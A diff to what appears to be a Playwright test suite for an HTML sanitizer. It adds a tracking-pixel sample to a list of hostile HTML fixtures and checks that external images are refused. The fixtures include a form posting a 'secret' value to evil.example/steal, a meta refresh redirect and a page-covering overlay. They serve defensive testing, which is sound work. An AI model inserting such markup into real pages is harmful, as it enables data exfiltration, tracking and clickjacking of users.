@@ -66,7 +66,9 @@ const HOSTILE = [
   '<div class="hostile-abs" style="position: absolute; top: -2000px; left: -2000px; width: 9000px; height: 9000px; z-index: 2147483647; background: red">absolute overlay</div>',
   '<form class="hostile-form" action="https://evil.example/steal" method="post"><input name="q" value="secret"><button class="hostile-submit" type="submit">Go</button></form>',
   '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
-  '<a class="hostile-http" href="https://evil.example/page">plain link</a>'
+  '<a class="hostile-http" href="https://evil.example/page">plain link</a>',
+  // a tracking pixel: images load only from the Story resource hosts, others become a note
+  '![pixel](https://evil.example/pixel.png) <img src="https://evil.example/img.png">'
 ].join('\n\n');
 
 test.describe('report panels', () => {
@@ -302,6 +304,9 @@ test.describe('report panels', () => {
     // no script, handler, iframe, object or style survived the sanitizer
     expect(await body.locator('script, iframe, object, embed, style, meta, [onerror], [onload], [onmouseover]').count()).toBe(0);
     expect(await body.locator('a[href^="javascript:"], a[href^="data:"]').count()).toBe(0);
+    expect(await body.locator('img[src*="evil.example"]').count()).toBe(0);
+    // the two evil.example images and the relative `src="x"` one
+    expect(await body.locator('.molspace-refused-image').count()).toBe(3);
     // The overlay inside the box covers its links: events are dispatched to them directly
     // (an anchor's click event runs its navigation, as a real click does).
     await box.locator('.hostile-hover').dispatchEvent('mouseover');
